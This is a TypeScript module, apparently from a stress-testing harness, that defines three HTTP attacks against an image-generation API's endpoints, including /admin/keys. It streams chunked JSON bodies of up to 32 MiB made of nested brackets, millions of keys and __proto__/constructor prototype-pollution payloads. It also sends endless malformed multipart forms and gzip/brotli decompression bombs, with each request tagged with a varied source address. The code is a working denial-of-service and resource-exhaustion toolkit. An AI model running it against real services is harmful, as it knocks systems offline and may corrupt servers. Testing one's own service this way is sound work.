import { brotliCompressSync, gzipSync } from 'node:zlib';
import { setTimeout as sleep } from 'node:timers/promises';
import { sized, type Attack, type Target } from '../attack.js';
import { connect, crowdAddress, pour, tally, withKey } from '../sockets.js';

const MIB = 1_048_576;

/** A JSON body of some MiB, made of pieces of one kind. */
interface Structure {
  name: string;
  pieces: (bytes: number) => Iterable<string>;
}

function* repeated(start: string, unit: string, end: string, bytes: number): Iterable<string> {
  yield start;
  const piece = unit.repeat(Math.max(1, Math.floor(65_536 / unit.length)));
  for (let sent = 0; sent < bytes; sent += piece.length) yield piece;
  yield end;
}

function* distinctKeys(bytes: number): Iterable<string> {
  yield '{"prompt":"a"';
  for (let sent = 0, number = 0; sent < bytes;) {
    let piece = '';
    while (piece.length < 65_536) piece += `,"k${(number += 1)}":1`;
    sent += piece.length;
    yield piece;
  }
  yield '}';
}

const STRUCTURES: readonly Structure[] = [
  { name: 'opening brackets', pieces: (bytes) => repeated('{"base64Array":', '[', '', bytes) },
  { name: 'empty objects', pieces: (bytes) => repeated('{"base64Array":[{}', ',{}', ']}', bytes) },
  { name: 'empty strings', pieces: (bytes) => repeated('{"base64Array":[""', ',""', ']}', bytes) },
  { name: 'nested objects', pieces: (bytes) => repeated('', '{"a":', '1', bytes) },
  { name: 'zeros before __proto__', pieces: (bytes) => repeated('{"x":[0', ',0', '],"__proto__":{"a":1}}', bytes) },
  {
    name: 'zeros before constructor',
    pieces: (bytes) => repeated('{"x":[0', ',0', '],"constructor":{"prototype":1}}', bytes),
  },
  { name: 'distinct keys', pieces: distinctKeys },
  { name: 'one long key', pieces: (bytes) => repeated('{"', 'k', '":1}', bytes) },
  { name: 'one long number', pieces: (bytes) => repeated('{"prompt":"a","x":1', '1', '}', bytes) },
  { name: 'escapes', pieces: (bytes) => repeated('{"prompt":"', '\\u0041', '"}', bytes) },
  { name: 'blanks', pieces: (bytes) => repeated('{"prompt":"a"', ' \n', '}', bytes) },
];

const PATHS = [
  '/mj/submit/blend',
  '/mj/submit/imagine',
  '/mj/task/list-by-condition',
  '/admin/keys',
  '/mj/insight-face/swap',
];

/** A chunked body, so that no length gives it away. Gives the status line. */
async function sendPieces(
  target: Target,
  path: string,
  pieces: Iterable<string | Buffer>,
  headers: Record<string, string>,
  from: string,
): Promise<string> {
  const peer = await connect(target, { from });
  if (peer === null) return 'refused';
  const lines = Object.entries({ host: 'a', ...withKey(target), ...headers, 'transfer-encoding': 'chunked' });
  peer.socket.write(`POST ${path} HTTP/1.1\r\n${lines.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`);
  const framed = function* (): Iterable<string | Buffer> {
    for (const piece of pieces) {
      if (peer.statusLine() !== '') return;
      yield `${Buffer.byteLength(piece).toString(16)}\r\n`;
      yield piece;
      yield '\r\n';
    }
    yield '0\r\n\r\n';
  };
  await pour(peer, framed());
  const answered = async (): Promise<void> => {
    while (peer.statusLine() === '' && !peer.socket.destroyed) await sleep(10);
  };
  await Promise.race([answered(), sleep(30_000)]);
  const line = peer.statusLine();
  peer.socket.destroy();
  return line === '' ? 'closed without an answer' : line;
}

const structures: Attack = {
  name: 'structures',
  about: 'Bodies of up to 32 MiB that are all structure: brackets, empty values, keys, dangerous names.',
  limitMs: 240_000,
  run: async (target) => {
    const lines: string[] = [];
    let number = 0;
    for (const path of PATHS)
      for (const { pieces } of STRUCTURES)
        for (const size of sized(target, 2, 1) === 2 ? [1 * MIB, 31 * MIB] : [4 * MIB]) {
          number += 1;
          const headers = { 'content-type': 'application/json' };
          lines.push(await sendPieces(target, path, pieces(size), headers, crowdAddress(number)));
        }
    return tally(lines);
  },
};

const formStructures: Attack = {
  name: 'form-structures',
  about: 'Forms of thousands of parts, of parts that are structure, and of parts that never end.',
  limitMs: 120_000,
  run: async (target) => {
    const headers = { 'content-type': 'multipart/form-data; boundary=x' };
    const part = (name: string, value: string): string =>
      `--x\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    const bodies: Iterable<string>[] = [
      repeated('', part('a', 'b'), '--x--\r\n', 8 * MIB),
      [part('json', '['.repeat(4 * MIB)), '--x--\r\n'],
      repeated('--x\r\ncontent-disposition: form-data; name="', 'n', '"\r\n\r\n1\r\n--x--\r\n', 4 * MIB),
      repeated('--x\r\n', 'x-header: y\r\n', '\r\n1\r\n--x--\r\n', 4 * MIB),
      repeated(
        '--x\r\ncontent-disposition: form-data; name="sourceBase64"; filename="a"\r\n\r\n',
        '\r\n--',
        '',
        8 * MIB,
      ),
    ];
    const lines = [];
    for (const [at, pieces] of bodies.entries())
      lines.push(await sendPieces(target, '/mj/insight-face/swap', pieces, headers, crowdAddress(at)));
    return tally(lines);
  },
};

const compressedBombs: Attack = {
  name: 'compressed-bombs',
  about: 'Bodies of kilobytes that unpack to hundreds of megabytes, by gzip and brotli.',
  limitMs: 120_000,
  run: async (target) => {
    const plain = Buffer.alloc(sized(target, 512, 128) * MIB, ' ');
    const bodies = [
      { encoding: 'gzip', bytes: gzipSync(plain) },
      { encoding: 'br', bytes: brotliCompressSync(plain, { params: { 0: 0 } }) },
      { encoding: 'gzip', bytes: gzipSync(Buffer.from('['.repeat(16 * MIB))) },
      { encoding: 'gzip, gzip', bytes: gzipSync(gzipSync(plain)) },
    ];
    const lines = [];
    for (const [at, { encoding, bytes }] of bodies.entries()) {
      const headers = { 'content-type': 'application/json', 'content-encoding': encoding };
      lines.push(await sendPieces(target, '/mj/submit/blend', [bytes], headers, crowdAddress(at)));
    }
    return tally(lines);
  },
};

export const BODIES: readonly Attack[] = [structures, formStructures, compressedBombs];
